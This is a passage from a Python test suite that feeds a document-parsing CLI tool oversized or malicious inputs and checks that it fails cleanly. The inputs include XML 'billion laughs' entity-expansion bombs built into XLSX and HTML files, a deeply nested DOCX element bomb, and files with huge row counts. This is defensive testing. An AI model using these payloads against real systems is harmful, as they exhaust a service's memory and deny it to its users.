        path = docx_with_spans(tmp / "deep.docx", span=1, cells=2)
        with zipfile.ZipFile(path) as package:
            parts = {name: package.read(name) for name in package.namelist()}
        parts["word/document.xml"] = parts["word/document.xml"].replace(b"<w:body>", b"<w:body>" + b"<w:sdt><w:sdtContent>" * 100_000 + b"</w:sdtContent></w:sdt>" * 100_000, 1)
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
            for name, data in parts.items():
                package.writestr(name, data)
        return Case(["parse", str(path)], codes=(0, 2), timeout=60)

    def xlsx_many_sheets(tmp: Path) -> Case:
        from openpyxl import Workbook

        book = Workbook()
        book.active.append(["id", "name"])
        book.active.append(["1", "Pension"])
        for i in range(400):
            book.create_sheet(f"s{i}")
        path = tmp / "sheets.xlsx"
        book.save(path)
        return Case(["parse", str(path), "--sheet", "nosuch"], codes=(2,), timeout=60, check=lambda run: _short_stderr(run))

    def xlsx_xml_entities(tmp: Path) -> Case:
        sheet = f"<sheetData>{HEADER_ROWS}</sheetData>"
        path = xlsx(tmp / "entities.xlsx", sheet)
        with zipfile.ZipFile(path) as package:
            parts = {name: package.read(name) for name in package.namelist()}
        lol = b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">' + b"".join(
            b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i else b"&lol;") * 10) for i in range(1, 10)) + b"]>"
        parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(b'<?xml version="1.0" encoding="UTF-8"?>', lol, 1).replace(b'name="Services"', b'name="&lol9;"')
        with zipfile.ZipFile(path, "w") as package:
            for name, data in parts.items():
                package.writestr(name, data)
        return Case(["parse", str(path)], codes=(0, 2), timeout=60)

    def html_entities(tmp: Path) -> Case:
        path = tmp / "lol.html"
        lol = '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">' + "".join(f'<!ENTITY lol{i} "{("&lol%d;" % (i - 1) if i > 1 else "&lol;") * 10}">' for i in range(1, 10)) + "]>"
        path.write_text(lol + "<html><body><table><tr><th>id</th><th>name</th></tr><tr><td>1</td><td>&lol9;</td></tr></table></body></html>", encoding="utf-8")
        return Case(["parse", str(path)], reads=[path], codes=(0, 2), timeout=60)

    def diff_identical_names(tmp: Path) -> Case:
        old = write_csv(tmp / "old.csv", ["name"], [["Issuing a certificate"]] * 20_000)
        new = write_csv(tmp / "new.csv", ["name"], [["Issuing a certificate"]] * 20_000 + [["Issuing a certificates"]] * 5000)
        return Case(["diff", str(old), str(new), "--rules", "en", "--format", "json"], reads=[old, new], codes=(0,), timeout=60)

    def diff_one_word_names(tmp: Path) -> Case:
        import random

        rng = random.Random(7)
        words = ["permit", "licence", "certificate", "registration", "application", "benefit", "service", "of", "the", "for"]
        old = write_csv(tmp / "old.csv", ["name"], [[" ".join(rng.choice(words) for _ in range(8))] for _ in range(30_000)])
        new = write_csv(tmp / "new.csv", ["name"], [[" ".join(rng.choice(words) for _ in range(8))] for _ in range(30_000)])
        return Case(["diff", str(old), str(new), "--match", "name", "--rules", "en", "--format", "json"], reads=[old, new], codes=(0,), timeout=60)

    def trend_shared_words(tmp: Path) -> Case:
        import random

        rng = random.Random(5)
        letters = "abcdefghij"
        common = "registration of the certificate of the application for"
        paths = []
        for edition in range(3):
            words = ["".join(rng.choice(letters) for _ in range(5)) for _ in range(15_000)]
            paths.append(str(write_csv(tmp / f"e{edition}.csv", ["name"], [[f"{common} {w}"] for w in words])))
        return Case(["trend", *paths, "--match", "name", "--rules", "en", "--format", "json"], codes=(0,), timeout=60)

    def diff_vocabulary(tmp: Path) -> Case:
        # Every word is shared by ~400 names of each edition, under the blocking cap: before the
        # per-name candidate bound every name was a candidate of thousands (2.5 GB at 30,000 names).
        import random

        rng = random.Random(3)
        vocabulary = ["".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(7)) for _ in range(200)]
        old = write_csv(tmp / "old.csv", ["name"], [[" ".join(rng.sample(vocabulary, 8))] for _ in range(10_000)])
        new = write_csv(tmp / "new.csv", ["name"], [[" ".join(rng.sample(vocabulary, 8))] for _ in range(10_000)])
        return Case(["diff", str(old), str(new), "--match", "name", "--rules", "en", "--format", "json"], reads=[old, new], codes=(0,), timeout=90)

    def diff_long_names(tmp: Path) -> Case:
        old = write_csv(tmp / "old.csv", ["name"], [[("pension care school permit " * 400) + str(i)] for i in range(500)])
        new = write_csv(tmp / "new.csv", ["name"], [[("pension care school permit " * 400) + str(i) + "x"] for i in range(500)])
        return Case(["diff", str(old), str(new), "--match", "name", "--rules", "en", "--format", "json"], reads=[old, new], codes=(0,), timeout=60)

    def explain_long_query(tmp: Path) -> Case:
        return Case(["explain", REG, "x" * 100_000], codes=(2,), timeout=30, check=_short_stderr)

    def many_duplicate_ids(tmp: Path) -> Case:
        path = write_csv(tmp / "dups.csv", ["id", "name"], [["S1", f"Pension {i}"] for i in range(200_000)])
        return Case(["parse", str(path), "--format", "json"], reads=[path], codes=(0,), timeout=60, check=_short_stderr)

    def many_ragged(tmp: Path) -> Case:
        path = tmp / "ragged.csv"
        path.write_text("id,name\n" + "S1,a,b,c\n" * 500_000, encoding="utf-8")
        return Case(["parse", str(path)], reads=[path], codes=(2,), timeout=60, check=_short_stderr)

    def budget_many_rows(tmp: Path) -> Case:
        path = tmp / "budget.csv"
        path.write_text("cofog,name,amount,year,level,source,partial\n" + "10,x,1,2019,state,src,\n" * 40_000, encoding="utf-8")
        return Case(["audit", REG, "--rules", "kz", "--budget", str(path), "--format", "json"], reads=[path], codes=(0, 2), timeout=30, check=_short_stderr)

    def labels_many_rows(tmp: Path) -> Case:
        path = tmp / "labels.csv"
        header = "id,name,language,nature,completeness,partial_kind,domain,human_service\n"
        path.write_text(header + "".join(f"L{i},Issuing a permit {i},en,transactional,complete,,04,false\n" for i in range(200_000)), encoding="utf-8")
        return Case(["rules", "eval", str(path), "--rules", "en", "--format", "json"], reads=[path], codes=(0, 1, 2), timeout=60)

    yield "csv-200000-columns", many_columns_csv
    yield "diff-names-from-a-few-hundred-words", diff_vocabulary
    yield "csv-16-mib-field", long_field_csv
    yield "csv-long-names", long_name_csv
    yield "json-30-million-records", big_json
    yield "html-5-million-elements", big_html
    yield "html-deep-nesting", deep_html
    yield "xlsx-styles-part-bomb", xlsx_styles_bomb
    yield "xlsx-many-sheets", xlsx_many_sheets
    yield "xlsx-xml-entities", xlsx_xml_entities
    yield "html-xml-entities", html_entities
    yield "docx-element-bomb", docx_element_bomb
    yield "docx-deep-nesting", docx_deep
    yield "diff-long-names", diff_long_names
    yield "explain-long-query", explain_long_query
    yield "many-ragged-rows", many_ragged
    yield "budget-many-rows", budget_many_rows


def _letters(column: int) -> str:
    out = ""
    while column:
        column, rest = divmod(column - 1, 26)
        out = chr(65 + rest) + out
    return out


def _short_stderr(run: Run) -> None:
    assert len(run.stderr) < 20_000 and len(run.stderr.splitlines()) < 50, f"stderr of {len(run.stderr)} characters, {len(run.stderr.splitlines())} lines"
